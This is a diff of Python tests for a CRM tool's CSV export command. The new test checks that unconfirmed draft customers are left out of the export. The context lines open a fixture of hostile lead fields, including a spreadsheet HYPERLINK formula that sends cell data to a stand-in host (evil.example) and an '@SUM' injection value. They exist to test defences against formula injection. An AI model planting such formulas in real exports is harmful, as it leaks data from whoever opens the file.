@@ -152,6 +152,17 @@ def test_export_masks_phones_and_names_who_exported(cli, engine, tmp_path, capsy
     assert main(["export", str(path), "--as", "王芳"]) == 2
 
 
+def test_export_leaves_out_unconfirmed_drafts(cli, engine, tmp_path, capsys):
+    """A pasted chat nobody confirmed is a draft (it may yet be 丢弃'd): not a customer to export."""
+    with session_scope(engine) as s:
+        s.add(Customer(name="草稿客户", phone="+8613700000000", team_id=cli.rep_b.team_id, owner_id=cli.rep_b.id,
+                       draft=True, created_at=T0))
+    path = tmp_path / "customers.csv"
+    assert main(["export", str(path), "--as", "陈主管"]) == 0
+    assert "已导出 1 位客户" in capsys.readouterr().out
+    assert "草稿客户" not in path.read_text(encoding="utf-8-sig")
+
+
 HOSTILE = {  # what a marketing form or an imported sheet can put in a lead's fields
     "name": '=HYPERLINK("http://evil.example/?d="&A1,"点我")',
     "company": "@SUM(1+1)",
